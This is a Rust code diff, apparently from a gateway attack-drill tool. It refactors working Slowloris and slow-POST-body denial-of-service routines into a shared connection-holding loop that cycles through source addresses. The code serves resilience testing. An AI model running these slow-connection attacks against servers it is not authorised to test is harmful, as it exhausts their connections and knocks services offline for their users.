@@ -513,73 +513,52 @@ async fn bot(
 /// Bytes a slow-body attack announces per request.
 const SLOW_BODY_BYTES: usize = 64 * 1024;
 
-/// slowhttptest -B: a POST that announces a 64 KiB body, then sends it 10 bytes a second,
-/// as long as the server keeps the connection; then again from the next source address.
-async fn slow_body(
-    w: u32,
-    target: SocketAddr,
-    host: Arc<str>,
-    attack: Arc<Attack>,
-    stats: Arc<AttackStats>,
-    stop: CancellationToken,
-) {
-    let mut next_source = w % attack.sources;
-    let path = &attack.paths[w as usize % attack.paths.len()];
-    while !stop.is_cancelled() {
-        let source = attack_source(next_source);
-        next_source = (next_source + attack.connections) % attack.sources;
-        let Ok(mut stream) = tcp_from(source, target).await else {
-            stats.errors.fetch_add(1, Ordering::Relaxed);
-            tokio::select! {
-                () = stop.cancelled() => return,
-                () = tokio::time::sleep(Duration::from_millis(100)) => {}
-            }
-            continue;
-        };
-        stats.connections.fetch_add(1, Ordering::Relaxed);
-        let head = format!(
-            "POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {SLOW_BODY_BYTES}\r\nx-drill: attack\r\n\r\n",
+/// How a connection is held open: what it sends first, then what it sends at each tick
+/// (`None`: it has nothing more to send).
+struct Trickle {
+    head: String,
+    every: Duration,
+    next: fn(u32) -> Option<Vec<u8>>,
+}
+
+/// Slowloris: a request head sent one header line every 5 s, never finished.
+fn slowloris(host: &str, _path: &str) -> Trickle {
+    Trickle {
+        head: format!(
+            "GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\n",
             BROWSER_AGENTS[0]
-        );
-        if stream.write_all(head.as_bytes()).await.is_err() {
-            continue;
-        }
-        stats.sent.fetch_add(1, Ordering::Relaxed);
-        let mut tick = tokio::time::interval(Duration::from_secs(1));
-        let mut buf = [0u8; 512];
-        let mut sent = 0usize;
-        loop {
-            tokio::select! {
-                () = stop.cancelled() => return,
-                read = stream.read(&mut buf) => {
-                    // The gateway answered (408) or closed: the connection was shed.
-                    let _ = read;
-                    stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
-                    break;
-                }
-                _ = tick.tick() => {
-                    if sent + 10 > SLOW_BODY_BYTES
-                        || stream.write_all(b"a=aaaaaaaa").await.is_err()
-                    {
-                        stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
-                        break;
-                    }
-                    sent += 10;
-                }
-            }
-        }
+        ),
+        every: Duration::from_secs(5),
+        next: |n| Some(format!("X-Pad-{n}: {n}\r\n").into_bytes()),
     }
 }
 
-async fn slowloris(
+/// slowhttptest -B: a POST that announces a 64 KiB form, then sends it 10 bytes a second.
+fn slow_body(host: &str, path: &str) -> Trickle {
+    Trickle {
+        head: format!(
+            "POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {SLOW_BODY_BYTES}\r\nx-drill: attack\r\n\r\n",
+            BROWSER_AGENTS[0]
+        ),
+        every: Duration::from_secs(1),
+        next: |n| ((n as usize) * 10 <= SLOW_BODY_BYTES).then(|| b"a=aaaaaaaa".to_vec()),
+    }
+}
+
+/// Holds connections open as `trickle` says, as long as the server keeps each; then again
+/// from the next source address.
+#[allow(clippy::too_many_arguments)]
+async fn hold(
     w: u32,
     target: SocketAddr,
     host: Arc<str>,
     attack: Arc<Attack>,
     stats: Arc<AttackStats>,
     stop: CancellationToken,
+    trickle: fn(&str, &str) -> Trickle,
 ) {
     let mut next_source = w % attack.sources;
+    let t = trickle(&host, &attack.paths[w as usize % attack.paths.len()]);
     while !stop.is_cancelled() {
         let source = attack_source(next_source);
         next_source = (next_source + attack.connections) % attack.sources;
@@ -592,15 +571,11 @@ async fn slowloris(
             continue;
         };
         stats.connections.fetch_add(1, Ordering::Relaxed);
-        let head = format!(
-            "GET / HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\n",
-            BROWSER_AGENTS[0]
-        );
-        if stream.write_all(head.as_bytes()).await.is_err() {
+        if stream.write_all(t.head.as_bytes()).await.is_err() {
             continue;
         }
         stats.sent.fetch_add(1, Ordering::Relaxed);
-        let mut tick = tokio::time::interval(Duration::from_secs(5));
+        let mut tick = tokio::time::interval(t.every);
         tick.tick().await;
         let mut buf = [0u8; 512];
         let mut n = 0u32;
@@ -615,7 +590,11 @@ async fn slowloris(
                 }
                 _ = tick.tick() => {
                     n += 1;
-                    if stream.write_all(format!("X-Pad-{n}: {n}\r\n").as_bytes()).await.is_err() {
+                    let sent = match (t.next)(n) {
+                        Some(bytes) => stream.write_all(&bytes).await.is_ok(),
+                        None => false,
+                    };
+                    if !sent {
                         stats.closed_by_server.fetch_add(1, Ordering::Relaxed);
                         break;
                     }
@@ -770,9 +749,9 @@ pub async fn run(
                     () = tokio::time::sleep(a.start) => {}
                 }
                 if a.kind == AttackKind::Slowloris {
-                    slowloris(w, target, host, a, stats, stop).await;
+                    hold(w, target, host, a, stats, stop, slowloris).await;
                 } else if a.kind == AttackKind::SlowBody {
-                    slow_body(w, target, host, a, stats, stop).await;
+                    hold(w, target, host, a, stats, stop, slow_body).await;
                 } else {
                     bot(solver, w, target, host, a, stats, stop).await;
                 }
